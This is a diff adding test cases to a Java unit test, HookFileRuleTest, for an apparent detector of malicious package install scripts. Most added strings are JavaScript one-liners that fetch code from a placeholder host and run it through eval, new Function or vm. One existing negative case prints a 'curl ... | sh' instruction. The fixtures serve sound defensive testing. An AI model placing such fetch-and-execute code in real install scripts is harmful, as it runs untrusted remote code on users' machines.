@@ -70,6 +70,14 @@ class HookFileRuleTest {
                 "fetch('https://a.example/x')\n  .then(r => r.text())\n  .then(t => { new Function(t)(); });\n",
                 "const r = await fetch('https://a.example/x');\nconst code = await r.text();\neval(code);\n",
                 "require('https').get('https://a.example/x', r => r.on('data', d => eval(d.toString())));\n",
+                "const r = await require('axios').get('https://a.example/x');\nnew Function('require', r.data.model)(require);\n",
+                "const axios = require('axios'), vm = require('vm');\n"
+                        + "axios.get('https://a.example/x').then(({data}) => vm.runInNewContext(data, {require}));\n",
+                "const {data} = await axios.get('https://a.example/x');\nnew vm.Script(data).runInThisContext();\n",
+                "const json = await (await fetch('https://a.example/x')).json();\neval(json.code);\n",
+                "const body = await got('https://a.example/x').text();\nnew Function(body)();\n",
+                "const needle = require('needle');\nconst res = await needle.get(u);\neval(res.body.a);\n",
+                "request('https://a.example/x', (e, r, body) => { eval(body); });\n",
             })
     void whatIsFetchedAndRun(String program) {
         assertThat(script("install.js", program))
@@ -110,7 +118,10 @@ class HookFileRuleTest {
                         + "', 'base64');\nconst re = /a/.exec('a');\nfs.writeFileSync('i', icon);\n",
                 "console.log('to install by hand: curl https://a.example/x.sh | sh');\n",
                 "cp.execSync('node-gyp rebuild', {stdio: 'inherit', env: process.env});\n",
-                "console.log(JSON.stringify(process.env));\n"
+                "console.log(JSON.stringify(process.env));\n",
+                "const {data} = await axios.get(u);\nfs.writeFileSync('v.json', data);\neval(template.code);\n",
+                "const got = forgot(u);\nnew Function('a', 'return a')(1);\n",
+                "const {version} = await (await fetch(u)).json();\nvm.runInNewContext(fs.readFileSync('a.js', 'utf8'), {b: 1});\n",
             })
     void whatInstallersDoIsNone(String program) {
         assertThat(script("install.js", program)).isEmpty();
